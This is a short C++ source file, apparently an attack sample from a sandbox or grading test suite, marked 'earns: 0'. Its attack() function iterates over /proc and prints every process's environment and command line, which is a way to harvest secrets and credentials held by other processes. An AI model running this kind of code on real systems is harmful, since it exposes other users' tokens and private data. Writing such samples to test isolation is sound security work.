// earns: 0
// It prints the environment and the command line of every process that it
// sees.
#include <filesystem>
#include <fstream>
#include <iostream>
#include <system_error>

#include "hello_async.hpp"

static void attack() {
  std::error_code none;
  for (const auto& entry : std::filesystem::directory_iterator("/proc", none))
    for (auto name : {"environ", "cmdline"}) {
      std::ifstream file(entry.path() / name);
      std::cout << file.rdbuf() << std::endl;
      std::cout.clear();
    }
}
